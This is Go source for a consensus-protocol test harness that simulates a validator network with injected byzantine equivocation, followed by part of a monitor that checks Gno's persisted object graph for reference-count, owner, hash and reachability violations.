	n := &Net{N: len(powers), Powers: powers, Byz: map[int]bool{}, have: map[string]*Msg{}, Rng: rng, byzDone: map[string]bool{}, claimed: map[string]bool{}, ByHeight: map[int64][]*Msg{}, props: map[string][]*Msg{}, served: map[int64]bool{}, commitCache: map[int64]*types.Commit{},
		GenTime: time.Unix(1_700_000_000, 0).UTC()}
	for _, b := range byz {
		n.Byz[b] = true
	}
	keySalt := rng.Uint64() // deterministic keys: the validator order (by address) is part of the schedule
	vals := make([]types.GenesisValidator, n.N)
	n.PVs = make([]types.PrivValidator, n.N)
	for i := 0; i < n.N; i++ {
		pv := types.NewMockPVWithPrivKey(ed25519.GenPrivKeyFromSecret([]byte(fmt.Sprintf("simnet-validator-%d-%d", i, keySalt))))
		n.PVs[i] = pv
		vals[i] = types.GenesisValidator{Address: pv.PubKey().Address(), PubKey: pv.PubKey(), Power: powers[i], Name: fmt.Sprint(i)}
	}
	genDoc := &types.GenesisDoc{GenesisTime: n.GenTime, ChainID: ChainID, Validators: vals}
	n.Nodes = make([]*Node, n.N)
	for i := 0; i < n.N; i++ {
		if n.Byz[i] {
			continue
		}
		state, err := sm.MakeGenesisState(genDoc)
		if err != nil {
			panic(err)
		}
		config := cfg.TestConfig()
		config.Consensus.WALDisabled = true
		config.Consensus.CreateEmptyBlocks = true
		db := memdb.NewMemDB()
		bs := store.NewBlockStore(db)
		app := kvstore.NewKVStoreApplication()
		mtx := new(sync.Mutex)
		mp := mempl.NewCListMempool(config.Mempool, abcicli.NewLocalClient(mtx, app), 0, state.ConsensusParams.Block.MaxTxBytes)
		sm.SaveState(db, state)
		be := sm.NewBlockExecutor(db, log.NewNoopLogger(), abcicli.NewLocalClient(mtx, app), mp)
		c := cs.NewConsensusState(config.Consensus, state, be, bs, mp, cs.NoOpEvidencePool{})
		c.SetLogger(log.NewNoopLogger())
		c.SetPrivValidator(n.PVs[i])
		ev := events.NewEventSwitch()
		ev.Start()
		c.SetEventSwitch(ev)
		c.SetTimeoutTicker(cs.NewVerifTicker())
		n.Nodes[i] = &Node{Index: i, CS: c, BS: bs, BE: be, seen: map[string]bool{}, tried: map[string]string{}, voteSeen: map[string]bool{}, collected: map[*types.Vote]bool{}}
		c.VerifBoot()
	}
	return n
}

// Honest returns the honest nodes.
func (n *Net) Honest() []*Node {
	var out []*Node
	for _, nd := range n.Nodes {
		if nd != nil {
			out = append(out, nd)
		}
	}
	return out
}

// ValIndex maps a validator address to its index in the (sorted) validator set of height h.
func (n *Net) add(m *Msg) *Msg {
	if old := n.have[m.Key]; old != nil {
		return old
	}
	n.have[m.Key] = m
	n.Pool = append(n.Pool, m)
	n.ByHeight[m.Height] = append(n.ByHeight[m.Height], m)
	if m.Kind == 'P' {
		k := fmt.Sprintf("%d/%d", m.Height, m.Round)
		n.props[k] = append(n.props[k], m)
	}
	return m
}

func voteKey(v *types.Vote) string {
	return fmt.Sprintf("V/%d/%d/%d/%d/%X", v.Height, v.Round, v.Type, v.ValidatorIndex, v.Signature)
}

func (n *Net) addVote(v *types.Vote, byz bool, aud map[int]bool) {
	n.add(&Msg{Key: voteKey(v), Height: v.Height, Round: v.Round, Kind: 'V', M: &cs.VoteMessage{Vote: v}, Vote: v, FromByz: byz, Audience: aud})
}

// Collect reads what node nd would gossip into the pool (and records its own votes).
func (n *Net) Collect(nd *Node) {
	rs := nd.CS.GetRoundState()
	if rs.Round > n.MaxRound {
		n.MaxRound = rs.Round
	}
	partsCount := 0
	if rs.ProposalBlockParts != nil {
		partsCount = rs.ProposalBlockParts.Count()
	}
	if rs.Proposal != nil && (rs.Proposal != nd.lastProp || partsCount != nd.lastParts) {
		nd.lastProp, nd.lastParts = rs.Proposal, partsCount
		n.add(&Msg{Key: fmt.Sprintf("P/%d/%d/%X", rs.Height, rs.Proposal.Round, rs.Proposal.Signature), Height: rs.Height, Round: rs.Proposal.Round, Kind: 'P', M: &cs.ProposalMessage{Proposal: rs.Proposal}})
		if ps := rs.ProposalBlockParts; ps != nil {
			for i := 0; i < ps.Total(); i++ {
				if p := ps.GetPart(i); p != nil {
					n.add(&Msg{Key: fmt.Sprintf("B/%d/%d/%X/%d", rs.Height, rs.Proposal.Round, ps.Hash(), i), Height: rs.Height, Round: rs.Proposal.Round, Kind: 'B', PartsHash: ps.Hash(),
						M: &cs.BlockPartMessage{Height: rs.Height, Round: rs.Proposal.Round, Part: p}})
				}
			}
		}
	}
	sets := []*types.VoteSet{rs.LastCommit}
	if rs.Votes != nil {
		for r := 0; r <= rs.Round+1; r++ {
			sets = append(sets, rs.Votes.Prevotes(r), rs.Votes.Precommits(r))
		}
	}
	for _, vs := range sets {
		if vs == nil {
			continue
		}
		for vi := 0; vi < n.N; vi++ {
			if v := vs.GetByIndex(vi); v != nil && !nd.collected[v] {
				nd.collected[v] = true
				n.addVote(v, false, nil)
				nd.noteVote(v)
			}
		}
	}
	// committed blocks of lower heights stay available to laggards
}

func (nd *Node) noteVote(v *types.Vote) {
	k := voteKey(v)
	if !nd.voteSeen[k] {
		nd.voteSeen[k] = true
		nd.Votes = append(nd.Votes, v)
	}
}

// ServeCommitted puts the stored block parts and commit of height h (from any
// node that has it) into the pool, as the reactor serves laggards from the block store.
func (n *Net) ServeCommitted(h int64) {
	if n.served[h] {
		return
	}
	for _, nd := range n.Honest() {
		if nd.BS.Height() < h {
			continue
		}
		meta := nd.BS.LoadBlockMeta(h)
		sc := nd.BS.LoadSeenCommit(h)
		if meta == nil || sc == nil {
			continue
		}
		for i := 0; i < meta.BlockID.PartsHeader.Total; i++ {
			p := nd.BS.LoadBlockPart(h, i)
			n.add(&Msg{Key: fmt.Sprintf("B/%d/%d/%X/%d", h, sc.Round(), meta.BlockID.PartsHeader.Hash, i), Height: h, Round: sc.Round(), Kind: 'B', PartsHash: meta.BlockID.PartsHeader.Hash,
				M: &cs.BlockPartMessage{Height: h, Round: sc.Round(), Part: p}})
		}
		for i, pc := range sc.Precommits {
			if pc != nil {
				n.addVote(sc.GetVote(i), false, nil)
			}
		}
		n.served[h] = true
		n.commitCache[h] = sc
		return
	}
}

// Drain processes every node's internal queue and collects gossip.
func (n *Net) Drain() {
	for _, nd := range n.Honest() {
		for nd.CS.VerifDrainInternal() > 0 {
		}
		n.Collect(nd)
	}
}

// Candidates lists deliverable (node, message) pairs; allow filters by (node index, msg).
func (n *Net) Candidates(allow func(ni int, m *Msg) bool) (nodes []int, msgs []*Msg) {
	for _, nd := range n.Honest() {
		h := nd.CS.GetRoundState().Height
		for _, m := range n.ByHeight[h] {
			if nd.seen[m.Key] {
				continue
			}
			if m.Audience != nil && !m.Audience[nd.Index] {
				continue
			}
			if allow != nil && !allow(nd.Index, m) {
				continue
			}
			nodes = append(nodes, nd.Index)
			msgs = append(msgs, m)
		}
	}
	return
}

// pace keeps the wall clock consistent with the scheduler's virtual timeouts. Timeouts fire at once
// here, but vote timestamps come from the wall clock (tmtime.Now) while block times advance by at
// least the time iota per height: without pacing, block time runs ahead of the clock, an honest
// nil precommit is stamped earlier than the block it follows, and (stray precommits being part of
// the commit) the median time of the next block can fall behind its parent's - a state no node
// with a sane configuration (a height lasts at least the iota) and a correct clock can reach.
// Before a node acts at a new height the clock must have passed its last block's time + iota.
func (n *Net) pace(nd *Node) {
	h := nd.BS.Height()
	if h <= nd.pacedHeight {
		return
	}
	nd.pacedHeight = h
	if meta := nd.BS.LoadBlockMeta(h); meta != nil {
		if d := time.Until(meta.Header.Time.Add(time.Duration(types.BlockTimeIotaMS) * time.Millisecond)); d > 0 {
			n.Paced += d
			time.Sleep(d + time.Millisecond)
		}
	}
}

// Deliver hands m to node ni. A message the state machine did not take in
// (vote for a round it does not track yet, proposal of another round, part of
// an unknown part set) stays deliverable: it is offered again once the node's
// height/round/step has changed, as a gossiping peer would.
func (n *Net) Deliver(ni int, m *Msg) {
	nd := n.Nodes[ni]
	n.pace(nd)
	if nd.seen[m.Key] {
		n.Duplicates++
	}
	peer := "p"
	if m.Vote != nil {
		peer = fmt.Sprintf("v%d", m.Vote.ValidatorIndex) // catch-up round quota is per peer
	}
	nd.CS.VerifDeliver(m.M, peer)
	for nd.CS.VerifDrainInternal() > 0 {
	}
	n.Steps++
	if Trace != nil {
		h, r, st := nd.HRS()
		Trace(fmt.Sprintf("deliver node=%d key=%s accepted=%v hrs=%d/%d/%v", ni, m.Key, n.accepted(nd, m), h, r, st))
	}
	if n.accepted(nd, m) {
		nd.seen[m.Key] = true
		m.Relayed = true
		if m.Vote != nil {
			nd.noteVote(m.Vote)
		}
	} else {
		n.Rejected++
		nd.tried[m.Key] = nd.hrsKey()
	}
}

func (nd *Node) hrsKey() string {
	rs := nd.CS.GetRoundState()
	return fmt.Sprintf("%d/%d/%d", rs.Height, rs.Round, rs.Step)
}

func (n *Net) accepted(nd *Node, m *Msg) bool {
	rs := nd.CS.GetRoundState()
	if m.Height < rs.Height {
		return true // obsolete for this node
	}
	if m.Height > rs.Height {
		return false
	}
	switch m.Kind {
	case 'V':
		v := m.Vote
		var vs *types.VoteSet
		if rs.Votes != nil {
			if v.Type == types.PrevoteType {
				vs = rs.Votes.Prevotes(v.Round)
			} else {
				vs = rs.Votes.Precommits(v.Round)
			}
		}
		if vs == nil {
			return false
		}
		got := vs.GetByIndex(v.ValidatorIndex)
		if got == nil {
			return false
		}
		// a conflicting vote of the same validator is "taken in" as evidence of equivocation: do not offer again
		return true
	case 'P':
		p := m.M.(*cs.ProposalMessage).Proposal
		if rs.Proposal != nil && string(rs.Proposal.Signature) == string(p.Signature) {
			return true
		}
		return rs.Proposal != nil && rs.Proposal.Round == p.Round // another proposal of this round already set
	case 'B':
		bp := m.M.(*cs.BlockPartMessage)
		ps := rs.ProposalBlockParts
		if ps == nil {
			return false
		}
		if string(ps.Hash()) != string(m.PartsHash) {
			return false // part of another block than the one this node is assembling: offer again later
		}
		return ps.GetPart(bp.Part.Index) != nil
	}
	return true
}

// FireTimeout fires node ni's pending timeout.
func (n *Net) FireTimeout(ni int) bool {
	n.pace(n.Nodes[ni])
	if n.Nodes[ni].CS.VerifFireTimeout() {
		n.Timeouts++
		return true
	}
	return false
}

// ---- byzantine behaviour ----

func (n *Net) signVote(vi int, h int64, r int, t types.SignedMsgType, bid types.BlockID, ts time.Time) *types.Vote {
	nd := n.Honest()[0]
	_, val := nd.CS.GetRoundState().Validators.GetByAddress(n.PVs[vi].PubKey().Address())
	if val == nil {
		return nil
	}
	idx, _ := nd.CS.GetRoundState().Validators.GetByAddress(n.PVs[vi].PubKey().Address())
	v := &types.Vote{ValidatorAddress: n.PVs[vi].PubKey().Address(), ValidatorIndex: idx, Height: h, Round: r, Timestamp: ts, Type: t, BlockID: bid}
	if err := n.PVs[vi].SignVote(ChainID, v); err != nil {
		return nil
	}
	return v
}

// ByzVotesFor makes every byzantine validator vote (prevote and precommit) for
// every block id proposed so far at (h, r) and for nil — equivocation — each
// vote restricted to a random audience.
func (n *Net) ByzVotesFor(h int64, r int, audience func() map[int]bool) {
	// fixed order (nil first, then proposals in the order they were made; byzantine validators by
	// index): the schedule must be a function of the PRNG alone, not of map iteration order
	keys := []string{"nil"}
	ids := map[string]types.BlockID{"nil": {}}
	for _, m := range n.props[fmt.Sprintf("%d/%d", h, r)] {
		p := m.M.(*cs.ProposalMessage).Proposal
		if _, ok := ids[string(p.BlockID.Hash)]; !ok {
			keys = append(keys, string(p.BlockID.Hash))
		}
		ids[string(p.BlockID.Hash)] = p.BlockID
	}
	for _, b := range n.byzSorted() {
		for _, k := range keys {
			bid := ids[k]
			for _, t := range []types.SignedMsgType{types.PrevoteType, types.PrecommitType} {
				key := fmt.Sprintf("%d/%d/%d/%d/%x", b, h, r, t, k)
				if n.byzDone[key] {
					continue
				}
				n.byzDone[key] = true
				if v := n.signVote(b, h, r, t, bid, n.GenTime.Add(time.Duration(h)*time.Second)); v != nil {
					n.addVote(v, true, audience())
					n.ByzVotes++
				}
			}
		}
	}
}

func (n *Net) byzSorted() []int {
	var out []int
	for b := range n.Byz {
		out = append(out, b)
	}
	sort.Ints(out)
	return out
}

// ByzPropose lets byzantine validator b (if it is the proposer of (h, r) in the
// view of an honest node) sign TWO different proposals for two audiences.
func (n *Net) ByzPropose(h int64, r int, audA, audB map[int]bool) {
	key := fmt.Sprintf("prop/%d/%d", h, r)
	if n.byzDone[key] {
		return
	}
	var ref *Node
	for _, nd := range n.Honest() {
		rs := nd.CS.GetRoundState()
		if rs.Height == h && rs.Round == r {
			ref = nd
			break
		}
	}
	if ref == nil {
		return
	}
	rs := ref.CS.GetRoundState()
	prop := rs.Validators.GetProposer()
	bi := -1
	for b := range n.Byz {
		if string(n.PVs[b].PubKey().Address().Bytes()) == string(prop.Address.Bytes()) {
			bi = b
		}
	}
	if bi < 0 {
		return
	}
	n.byzDone[key] = true
	st := ref.CS.GetState()
	var commit *types.Commit
	switch {
	case h == st.InitialHeight || (st.InitialHeight == 0 && h == 1):
		commit = types.NewCommit(types.BlockID{}, nil)
	case rs.LastCommit != nil && rs.LastCommit.HasTwoThirdsMajority():
		commit = rs.LastCommit.MakeCommit()
	default:
		return
	}
	for i, aud := range []map[int]bool{audA, audB} {
		txs := []types.Tx{}
		if i == 1 {
			txs = append(txs, types.Tx(fmt.Sprintf("byz%d=%d", h, r)))
		}
		block, parts := st.MakeBlock(h, txs, commit, prop.Address)
		bid := types.BlockID{Hash: block.Hash(), PartsHeader: parts.Header()}
		p := types.NewProposal(h, r, -1, bid)
		p.Timestamp = n.GenTime.Add(time.Duration(h) * time.Second)
		if err := n.PVs[bi].SignProposal(ChainID, p); err != nil {
			continue
		}
		n.add(&Msg{Key: fmt.Sprintf("P/%d/%d/%X", h, r, p.Signature), Height: h, Round: r, Kind: 'P', M: &cs.ProposalMessage{Proposal: p}, FromByz: true, Audience: aud})
		for k := 0; k < parts.Total(); k++ {
			n.add(&Msg{Key: fmt.Sprintf("B/%d/%d/%X/%d", h, r, parts.Hash(), k), Height: h, Round: r, Kind: 'B', PartsHash: parts.Hash(),
				M: &cs.BlockPartMessage{Height: h, Round: r, Part: parts.GetPart(k)}, FromByz: true, Audience: aud})
		}
		n.ByzProposals++
	}
}

// HRS returns a node's height/round/step.
func (nd *Node) HRS() (int64, int, cstypes.RoundStepType) {
	rs := nd.CS.GetRoundState()
	return rs.Height, rs.Round, rs.Step
}

// needs reports whether node nd, in its current state, lacks message m — what a
// gossiping peer would conclude from nd's announced state (receiver-driven gossip).
func (n *Net) needs(nd *Node, m *Msg) bool {
	rs := nd.CS.GetRoundState()
	if m.Height != rs.Height {
		return false
	}
	switch m.Kind {
	case 'V':
		v := m.Vote
		if rs.Votes == nil {
			return false
		}
		var vs *types.VoteSet
		if v.Type == types.PrevoteType {
			vs = rs.Votes.Prevotes(v.Round)
		} else {
			vs = rs.Votes.Precommits(v.Round)
		}
		if vs == nil {
			return true // round not tracked yet: may be taken as a catch-up round
		}
		got := vs.GetByIndex(v.ValidatorIndex)
		if got == nil {
			return true
		}
		if got.BlockID.Equals(v.BlockID) {
			return false
		}
		// a different vote of that validator is held: m is only useful if a peer claimed +2/3 for m's
		// block (the vote set takes a conflicting vote in only then; without the claim it would be
		// refused again and again, and offering it forever starves everything else)
		if !n.claimed[fmt.Sprintf("%d/%d/%d/%d/%X", nd.Index, v.Height, v.Round, v.Type, v.BlockID.Hash)] {
			return false
		}
		ba := vs.BitArrayByBlockID(v.BlockID)
		return ba != nil && !ba.GetIndex(v.ValidatorIndex)
	case 'P':
		return rs.Proposal == nil && m.Round == rs.Round
	case 'B':
		ps := rs.ProposalBlockParts
		if ps == nil || string(ps.Hash()) != string(m.PartsHash) {
			return false
		}
		return ps.GetPart(m.M.(*cs.BlockPartMessage).Part.Index) == nil
	}
	return false
}

// Pick returns one random deliverable (node, message) pair, or ok=false if no
// honest node lacks anything that is deliverable to it. With junk > 0 a message
// the node does not need (duplicate, other round, other block) is sometimes
// chosen too, as a hostile or sloppy peer would send it.
func (n *Net) Pick(allow func(ni int, m *Msg) bool, junk float64) (ni int, m *Msg, ok bool) {
	hs := n.Honest()
	start := n.Rng.IntN(len(hs))
	for k := 0; k < len(hs); k++ {
		nd := hs[(start+k)%len(hs)]
		bucket := n.ByHeight[nd.CS.GetRoundState().Height]
		if len(bucket) == 0 {
			continue
		}
		off := n.Rng.IntN(len(bucket))
		hk := nd.hrsKey()
		wantJunk := junk > 0 && n.Rng.Float64() < junk
		for j := 0; j < len(bucket); j++ {
			msg := bucket[(off+j)%len(bucket)]
			if msg.Audience != nil && !msg.Audience[nd.Index] && !(n.RelayAll && msg.Relayed) {
				continue
			}
			if allow != nil && !allow(nd.Index, msg) {
				continue
			}
			if wantJunk {
				return nd.Index, msg, true
			}
			if nd.tried[msg.Key] == hk || !n.needs(nd, msg) {
				continue
			}
			return nd.Index, msg, true
		}
	}
	return 0, nil, false
}

// ShareMaj23 does what the reactor's queryMaj23 routine does between honest
// nodes: a node that holds a +2/3 majority for a block in some vote set (or a
// stored commit) tells the others, which lets their vote sets take in votes for
// that block even from validators that equivocated towards them.
func (n *Net) ShareMaj23() {
	hs := n.Honest()
	for _, src := range hs {
		rs := src.CS.GetRoundState()
		if rs.Votes != nil {
			for r := 0; r <= rs.Round; r++ {
				for _, t := range []types.SignedMsgType{types.PrevoteType, types.PrecommitType} {
					var vs *types.VoteSet
					if t == types.PrevoteType {
						vs = rs.Votes.Prevotes(r)
					} else {
						vs = rs.Votes.Precommits(r)
					}
					if vs == nil {
						continue
					}
					if bid, ok := vs.TwoThirdsMajority(); ok {
						n.claim(src, rs.Height, r, t, bid)
					}
				}
			}
		}
		// stored commits for laggards
		for _, dst := range hs {
			dh := dst.CS.GetRoundState().Height
			if dh <= src.BS.Height() {
				sc := n.commitCache[dh]
				if sc == nil {
					sc = src.BS.LoadSeenCommit(dh)
					n.commitCache[dh] = sc
				}
				if sc != nil {
					n.claim(src, dh, sc.Round(), types.PrecommitType, sc.BlockID)
				}
			}
		}
	}
}

// Trace, when set, receives one line per delivery and claim (debugging aid).
var Trace func(string)

func (n *Net) claim(src *Node, h int64, r int, t types.SignedMsgType, bid types.BlockID) {
	for _, dst := range n.Honest() {
		if dst == src {
			continue
		}
		rs := dst.CS.GetRoundState()
		if rs.Height != h || rs.Votes == nil {
			continue
		}
		if (t == types.PrevoteType && rs.Votes.Prevotes(r) == nil) || (t == types.PrecommitType && rs.Votes.Precommits(r) == nil) {
			continue // dst does not track that round yet: the claim would be dropped; it is made again later
		}
		key := fmt.Sprintf("maj23/%d/%d/%d/%d/%d/%X", src.Index, dst.Index, h, r, t, bid.Hash)
		if n.byzDone[key] {
			continue
		}
		n.byzDone[key] = true
		if Trace != nil {
			Trace(fmt.Sprintf("claim src=%d dst=%d h=%d r=%d t=%v block=%X", src.Index, dst.Index, h, r, t, bid.Hash))
		}
		if err := rs.Votes.SetPeerMaj23(r, t, p2pID(fmt.Sprintf("node%d", src.Index)), bid); err == nil {
			n.claimed[fmt.Sprintf("%d/%d/%d/%d/%X", dst.Index, h, r, t, bid.Hash)] = true
		}
		n.Maj23Claims++
		// votes for that block that were refused earlier become deliverable again
		for _, m := range n.ByHeight[h] {
			if m.Vote != nil && m.Vote.Round == r && m.Vote.Type == t && m.Vote.BlockID.Equals(bid) {
				delete(dst.tried, m.Key)
				if dst.seen[m.Key] {
					// "seen" may mean: refused as conflicting; offer again
					var vs *types.VoteSet
					if t == types.PrevoteType {
						vs = rs.Votes.Prevotes(r)
					} else {
						vs = rs.Votes.Precommits(r)
					}
					if vs == nil || vs.BitArrayByBlockID(bid) == nil || !vs.BitArrayByBlockID(bid).GetIndex(m.Vote.ValidatorIndex) {
						delete(dst.seen, m.Key)
					}
				}
			}
		}
	}
}

func p2pID(s string) p2pTypes.ID { return p2pTypes.ID(s) }
