// Package monitors holds the committed-state monitors attached to chain
// workloads: the persisted object-graph walker (C06), the storage/deposit
// accountant (C09) and the coin ledger (C14).
package monitors

import (
	"crypto/sha256"
	"fmt"
	"reflect"
	"sort"
	"strings"

	gno "github.com/gnolang/gno/gnovm/pkg/gnolang"
	"github.com/gnolang/gno/tm2/pkg/amino"

	"verifharness/internal/audit"
)

// Obj is one decoded persisted object.
type Obj struct {
	Key      string // "oid:<id>"
	ID       gno.ObjectID
	Info     gno.ObjectInfo
	Kind     string
	Refs     []gno.RefValue // outgoing object references found in the decoded value
	Size     int
	HashOK   bool
	StoredH  [20]byte
	IsPkg    bool
	DecodeEr string
}

// Graph is the decoded oid: graph.
type Graph struct {
	Objs  map[string]*Obj // by ObjectID string
	Order []string
}

var refValueType = reflect.TypeOf(gno.RefValue{})
var objInfoType = reflect.TypeOf(gno.ObjectInfo{})

// collectRefs walks v (decoded amino data: exported fields only) and appends
// every RefValue with a non-zero ObjectID. ObjectInfo is skipped (OwnerID is
// not a reference), and type descriptions are skipped (types are not objects).
func collectRefs(v reflect.Value, out *[]gno.RefValue, seen map[uintptr]bool) {
	switch v.Kind() {
	case reflect.Invalid:
		return
	case reflect.Interface, reflect.Ptr:
		if v.IsNil() {
			return
		}
		if v.Kind() == reflect.Ptr {
			// decoded values contain Go pointer cycles (e.g. the doubly linked map list)
			if seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
		}
		collectRefs(v.Elem(), out, seen)
	case reflect.Struct:
		t := v.Type()
		if t == objInfoType {
			return
		}
		if t == refValueType {
			rv := v.Interface().(gno.RefValue)
			if !rv.ObjectID.IsZero() {
				*out = append(*out, rv)
			}
			return
		}
		// types and syntax nodes never contain object references
		if isTypeOrNode(t) {
			return
		}
		for i := 0; i < v.NumField(); i++ {
			if !t.Field(i).IsExported() {
				continue
			}
			collectRefs(v.Field(i), out, seen)
		}
	case reflect.Slice, reflect.Array:
		if v.Kind() == reflect.Slice && v.Type().Elem().Kind() == reflect.Uint8 {
			return
		}
		for i := 0; i < v.Len(); i++ {
			collectRefs(v.Index(i), out, seen)
		}
	case reflect.Map:
		it := v.MapRange()
		for it.Next() {
			collectRefs(it.Key(), out, seen)
			collectRefs(it.Value(), out, seen)
		}
	}
}

var gnoTypeIface = reflect.TypeOf((*gno.Type)(nil)).Elem()
var gnoNodeIface = reflect.TypeOf((*gno.Node)(nil)).Elem()

func isTypeOrNode(t reflect.Type) bool {
	pt := reflect.PointerTo(t)
	return t.Implements(gnoTypeIface) || pt.Implements(gnoTypeIface) || t.Implements(gnoNodeIface) || pt.Implements(gnoNodeIface)
}

// DecodeGraph decodes every oid: object (excluding #realm records).
func DecodeGraph(base *audit.KV) *Graph {
	g := &Graph{Objs: map[string]*Obj{}}
	for _, k := range base.Keys {
		if !strings.HasPrefix(k, "oid:") || strings.HasSuffix(k, "#realm") {
			continue
		}
		val := base.M[k]
		o := &Obj{Key: k, Size: len(val)}
		if len(val) < 20 {
			o.DecodeEr = "value shorter than a hash"
			g.Objs[k[4:]] = o
			g.Order = append(g.Order, k[4:])
			continue
		}
		copy(o.StoredH[:], val[:20])
		h := sha256.Sum256(val[20:])
		o.HashOK = string(h[:20]) == string(val[:20])
		var oo gno.Object
		if err := amino.Unmarshal(val[20:], &oo); err != nil {
			o.DecodeEr = err.Error()
		} else {
			o.ID = oo.GetObjectID()
			o.Info = *oo.GetObjectInfo()
			o.Kind = fmt.Sprintf("%T", oo)
			_, o.IsPkg = oo.(*gno.PackageValue)
			collectRefs(reflect.ValueOf(oo), &o.Refs, map[uintptr]bool{})
		}
		g.Objs[k[4:]] = o
		g.Order = append(g.Order, k[4:])
	}
	sort.Strings(g.Order)
	return g
}

// GraphIssue is one violated clause.
type GraphIssue struct {
	Clause string
	OID    string
	Msg    string
}

// CheckGraph evaluates the five clauses of C06 over objects whose PkgID
// passes `inScope` (nil = all). escaped = main-store entries keyed by oid.
func CheckGraph(g *Graph, escaped map[string][]byte, inScope func(gno.PkgID) bool) (issues []GraphIssue, stats map[string]int) {
	stats = map[string]int{}
	indeg := map[string]int{}
	referrers := map[string][]string{}
	for _, id := range g.Order {
		o := g.Objs[id]
		for _, r := range o.Refs {
			t := r.ObjectID.String()
			// references from another realm to objects of an immutable package are not ref-counted
			if r.ObjectID.PkgID.IsImmutablePkg() && r.ObjectID.PkgID != o.ID.PkgID {
				stats["refs_to_immutable_foreign"]++
				continue
			}
			indeg[t]++
			referrers[t] = append(referrers[t], id)
			stats["refs"]++
		}
	}
	// reachability from package values
	reach := map[string]bool{}
	var stack []string
	for _, id := range g.Order {
		if g.Objs[id].IsPkg {
			reach[id] = true
			stack = append(stack, id)
		}
	}
	for len(stack) > 0 {
		id := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		o := g.Objs[id]
		if o == nil {
			continue
		}
		for _, r := range o.Refs {
			t := r.ObjectID.String()
			if !reach[t] {
				reach[t] = true
				stack = append(stack, t)
			}
		}
	}
	var unreachable []string
	add := func(clause, oid, format string, a ...any) {
		issues = append(issues, GraphIssue{clause, oid, fmt.Sprintf(format, a...)})
	}
	for _, id := range g.Order {
		o := g.Objs[id]
		if o.DecodeEr != "" {
			add("decode", id, "cannot decode: %s", o.DecodeEr)
			continue
		}
		if inScope != nil && !inScope(o.ID.PkgID) {
			continue
		}
		stats["objects_checked"]++
		stats["kind:"+o.Kind]++
		if o.ID.String() != id {
			add("id", id, "object stored under key %s carries id %s", id, o.ID)
		}
		// (4) stored hash = hash of stored bytes
		if !o.HashOK {
			add("hash", id, "stored hash does not match the stored bytes")
		}
		if o.Info.IsEscaped {
			stats["escaped"]++
			if eh, ok := escaped[id]; !ok {
				add("escaped-entry-missing", id, "object is escaped but has no entry in the Merkle store")
			} else if string(eh) != string(o.StoredH[:]) {
				add("escaped-hash", id, "Merkle-store entry %x differs from stored hash %x", eh, o.StoredH)
			}
		} else if _, ok := escaped[id]; ok {
			add("escaped-entry-stale", id, "object is not escaped but has a Merkle-store entry")
		}
		// (3) no dangling references; child hash recorded in a non-escaped reference must equal the child's stored hash
		for _, r := range o.Refs {
			t := r.ObjectID.String()
			child := g.Objs[t]
			if child == nil {
				add("dangling", id, "references missing object %s", t)
				continue
			}
			if !r.Hash.IsZero() && child.DecodeEr == "" && r.Hash.Hashlet != gno.Hashlet(child.StoredH) {
				// not one of the property's clauses (the parent's recorded child hash is stale): observed and counted only
				stats["stale_child_hash_in_parent_reference"]++
			}
		}
		if o.IsPkg {
			stats["packages"]++
			continue // packages are the roots: RefCount 1 by convention, no referrer, no owner
		}
		// (1) reference count
		if o.Info.RefCount != indeg[id] {
			add("refcount", id, "RefCount %d but %d persisted references (%v); kind %s", o.Info.RefCount, indeg[id], head(referrers[id], 4), o.Kind)
		}
		// (2) owner
		hasOwner := !o.Info.OwnerID.IsZero()
		wantOwner := o.Info.RefCount == 1 && !o.Info.IsEscaped
		if hasOwner != wantOwner {
			clause := "owner-missing-on-singly-referenced-object"
			detail := ""
			if hasOwner {
				clause = "owner-set-on-shared-object"
				if o.Info.IsEscaped {
					clause = "owner-set-on-escaped-object"
				}
				ow := g.Objs[o.Info.OwnerID.String()]
				holds := false
				if ow != nil {
					for _, r := range ow.Refs {
						if r.ObjectID == o.ID {
							holds = true
						}
					}
				}
				if o.Info.IsEscaped && !(o.Info.RefCount == 1 && ow != nil && holds) {
					// not the re-owned-after-escape state (sole referrer recorded as owner): the recorded
					// owner is gone, holds no reference, or the object is still shared
					clause = "owner-stale-on-escaped-object"
					if o.Info.RefCount == 1 && !holds && indeg[id] == 1 && len(referrers[id]) == 1 { // (the old owner may have been deleted since)
						if r := g.Objs[referrers[id][0]]; r != nil && r.ID.PkgID == o.ID.PkgID {
							// re-owned after its escape (owner-set-on-escaped-object), then its sole reference
							// was moved to another object of the realm (owner-stale-after-sole-reference-moved)
							clause = "owner-stale-on-escaped-object:sole-reference-moved"
						}
					}
				}
				detail = fmt.Sprintf("; recorded owner %s exists=%v holds-reference=%v; referrers %v", o.Info.OwnerID, ow != nil, holds, head(referrers[id], 4))
			}
			add(clause, id, "OwnerID set=%v but RefCount=%d IsEscaped=%v kind %s%s", hasOwner, o.Info.RefCount, o.Info.IsEscaped, o.Kind, detail)
		} else if hasOwner {
			ow := g.Objs[o.Info.OwnerID.String()]
			if ow == nil {
				clause := "owner-missing"
				if indeg[id] == 1 && len(referrers[id]) == 1 {
					if r := g.Objs[referrers[id][0]]; r != nil && r.ID.PkgID == o.ID.PkgID {
						// the recorded (old) owner has since been deleted: same stale-owner state as below
						clause = "owner-stale-after-sole-reference-moved"
					} else if r != nil {
						// the same with the (single) referrer in another realm than the object
						clause = "owner-stale-after-sole-reference-moved:cross-realm"
					}
				}
				add(clause, id, "owner %s is not persisted; referrers %v; kind %s", o.Info.OwnerID, head(referrers[id], 4), o.Kind)
			} else {
				found := false
				for _, r := range ow.Refs {
					if r.ObjectID == o.ID {
						found = true
					}
				}
				if !found {
					// classify: the sole reference was moved from the recorded owner to another object of the same realm
					clause := "owner-no-ref"
					if indeg[id] == 1 && len(referrers[id]) == 1 {
						if r := g.Objs[referrers[id][0]]; r != nil && r.ID.PkgID == o.ID.PkgID {
							clause = "owner-stale-after-sole-reference-moved"
						} else if r != nil {
							clause = "owner-stale-after-sole-reference-moved:cross-realm"
						}
					}
					add(clause, id, "owner %s (%s) holds no reference to it; referrers %v; kind %s", o.Info.OwnerID, ow.Kind, head(referrers[id], 4), o.Kind)
				}
			}
		}
		// (5) reachability: objects on no path from a package must be on a reference cycle
		// (or be kept alive by one: reference counting leaks a detached cycle together with what it references)
		if !reach[id] {
			unreachable = append(unreachable, id)
		}
	}
	if len(unreachable) > 0 {
		kept := map[string]bool{}
		var st []string
		for _, id := range unreachable {
			if onCycle(g, id) {
				stats["objects_on_leaked_cycles"]++
				kept[id] = true
				st = append(st, id)
			}
		}
		for len(st) > 0 {
			id := st[len(st)-1]
			st = st[:len(st)-1]
